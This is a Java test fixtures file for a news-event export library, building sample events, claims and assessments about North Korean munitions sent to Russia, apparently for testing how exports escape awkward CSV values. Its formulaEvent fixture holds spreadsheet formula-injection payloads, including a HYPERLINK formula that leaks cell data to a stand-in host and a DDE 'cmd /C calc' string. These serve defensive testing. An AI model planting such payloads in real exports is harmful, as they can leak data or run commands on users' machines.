package dev.dyad.report.export;

import dev.dyad.core.claims.Assessment;
import dev.dyad.core.claims.AssessmentMention;
import dev.dyad.core.claims.Claim;
import dev.dyad.core.claims.ClaimActor;
import dev.dyad.core.claims.ClaimMention;
import dev.dyad.core.claims.ClaimStatus;
import dev.dyad.core.coding.Event;
import dev.dyad.core.coding.EventActor;
import dev.dyad.core.coding.modality.Modality;
import dev.dyad.core.coding.ontology.EventType;
import dev.dyad.core.model.EventDate;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.Optional;

/** Events, claims and assessments for the export tests, built with their canonical constructors. */
final class Fixtures {
  private Fixtures() {}

  static final String AWKWARD =
      "Seoul said, \"North Korea sent munitions\"\nto Russia — 北朝鮮 \u00e9\tend";

  static Event event(
      String id, String source, String target, Modality modality, Optional<String> date) {
    String sentence = "North Korea sent munitions to Russia, officials said.";
    return new Event(
        id,
        "doc-" + id,
        "https://news.example/" + id,
        Optional.of(LocalDate.of(2024, 10, 18)),
        1,
        sentence,
        new Event.Span(12, 16),
        new EventActor(source, "North Korea"),
        target == null ? Optional.empty() : Optional.of(new EventActor(target, "Russia")),
        EventType.AID,
        Optional.of("military"),
        "0741",
        2,
        8.3,
        modality,
        Optional.of("officials said"),
        date,
        date.isPresent() ? EventDate.Basis.TEXT : EventDate.Basis.NONE,
        false,
        "aid.send.weapons",
        0.8123,
        Optional.of("munitions"));
  }

  /** An event whose URL, sentence and actor text are formulas a spreadsheet would run. */
  static Event formulaEvent() {
    Event e = event("e3", "PRK", "RUS", Modality.ASSERTED, Optional.of("2024-10-01"));
    return new Event(
        e.eventId(),
        e.docId(),
        "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")",
        e.published(),
        e.sentenceIndex(),
        "+cmd|' /C calc'!A0 said North Korea sent munitions to Russia.",
        e.span(),
        new EventActor("PRK", "@SUM(1+1)"),
        Optional.of(new EventActor("XYZ", "\t=1+1")),
        e.eventType(),
        e.mode(),
        e.cameo(),
        e.quadClass(),
        -7.5,
        e.modality(),
        Optional.of("-2+3"),
        e.date(),
        e.dateBasis(),
        e.historical(),
        e.pattern(),
        e.confidence(),
        Optional.of("\r=2"));
  }

  static Event awkwardEvent() {
    return new Event(
        "ev,\"1\"",
        "doc\n1",
        "https://news.example/a?b=1,2",
        Optional.empty(),
        0,
        AWKWARD,
        new Event.Span(0, 5),
        new EventActor("PRKMIL", "North Korean \"troops\""),
        Optional.of(new EventActor("RUS", "Russia,\r\nthe Kremlin")),
        EventType.AID,
        Optional.empty(),
        "0741",
        2,
        -10.0,
        Modality.REPORTED,
        Optional.empty(),
        Optional.of("2024-10"),
        EventDate.Basis.TEXT,
        true,
        "aid.send.weapons",
        1.0,
        Optional.empty());
  }

  static ClaimMention mention(String doc, String family, Modality modality, int sentenceIndex) {
    return new ClaimMention(
        doc,
        "https://news.example/" + doc,
        family,
        AWKWARD,
        sentenceIndex,
        modality,
        Optional.of("said"),
        "ev-" + doc,
        Optional.of(LocalDate.of(2024, 10, 18)),
        Optional.of("2024-10"),
        false);
  }

  static Claim claim(
      String id,
      ClaimActor source,
      ClaimActor target,
      EventType type,
      Optional<String> mode,
      ClaimStatus status,
      int documents,
      int sources) {
    return new Claim(
        id,
        source.name() + " " + type + (target == null ? "" : " " + target.name()),
        source,
        Optional.ofNullable(target),
        type,
        mode,
        Optional.empty(),
        status,
        documents,
        sources,
        Map.of(Modality.REPORTED, documents),
        Optional.of("2024-10-18"),
        Optional.of("2024-10-20"),
        List.of(
            mention("d1", "f1", Modality.REPORTED, 5), mention("d2", "f2", Modality.ASSERTED, 7)));
  }

  static final ClaimActor PRK = new ClaimActor("PRK", "North Korea");
  static final ClaimActor RUS = new ClaimActor("RUS", "Russia");
  static final ClaimActor KOR = new ClaimActor("KOR", "South Korea");
  static final ClaimActor UN = new ClaimActor("IGOUNO", "United Nations & <Co>");

  static Assessment assessment() {
    AssessmentMention m =
        new AssessmentMention(
            "d1",
            "https://news.example/d1",
            "f1",
            Optional.empty(),
            3,
            AWKWARD,
            "arms-race",
            Assessment.Direction.RAISES,
            List.of("PRK", "RUS"),
            "could",
            "arms race");
    return new Assessment(
        "as-1",
        "arms-race",
        Assessment.Direction.RAISES,
        List.of("PRK", "RUS", "KOR"),
        "Analysts say, \"it could fuel an arms race\"",
        1,
        1,
        List.of(m));
  }
}
